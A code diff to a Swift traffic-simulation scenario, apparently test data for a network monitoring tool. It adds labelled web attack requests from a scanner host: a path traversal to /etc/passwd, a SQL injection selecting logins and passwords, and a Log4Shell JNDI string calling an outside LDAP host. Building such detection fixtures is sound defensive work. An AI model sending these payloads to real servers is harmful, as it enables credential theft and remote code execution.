@@ -39,7 +39,7 @@ public enum Scenarios {
     /// The bundled demo: benign traffic from several members plus a port scan of the DMZ web
     /// server from the internet, interleaved in time.
     public static func demo() -> Scenario {
-        let s = Scenario(name: "demo", summary: "Demo: benign member traffic and a TCP port scan of the DMZ web server.", seed: 0x484E_0002)
+        let s = Scenario(name: "demo", summary: "Demo: benign member traffic, a TCP port scan of the DMZ web server and web attacks from the same address.", seed: 0x484E_0002)
         var t = Scenario.baseTime
         for i in 0..<6 {
             let client = Host("10.20.1.\(30 + i)", mac: UInt8(0x30 + i))
@@ -61,6 +61,15 @@ public enum Scenarios {
                 c.refused()
             }
             ts += 20_000_000
+        }
+        // Then the same address tries web attacks on the portal.
+        for (i, uri) in ["/portal/../../../../etc/passwd", "/portal/search?q=1%27%20UNION%20SELECT%20login,password%20FROM%20users--",
+                         "/portal/?x=${jndi:ldap://198.51.100.23:1389/a}"].enumerated() {
+            let c = s.tcp(scanner, web, sport: UInt16(41_000 + i), dport: 80, at: ts, rtt: 1_000_000, appProto: "http", label: "attack:web-exploit").handshake()
+            c.send(fromClient: true, Payloads.httpRequest(uri: uri, host: "portal.healthnet.lu", userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"))
+            c.send(fromClient: false, Payloads.httpResponse(status: 404, reason: "Not Found", body: Payloads.bytes("not found")))
+            c.close()
+            ts = c.time + 200_000_000
         }
         return s
     }
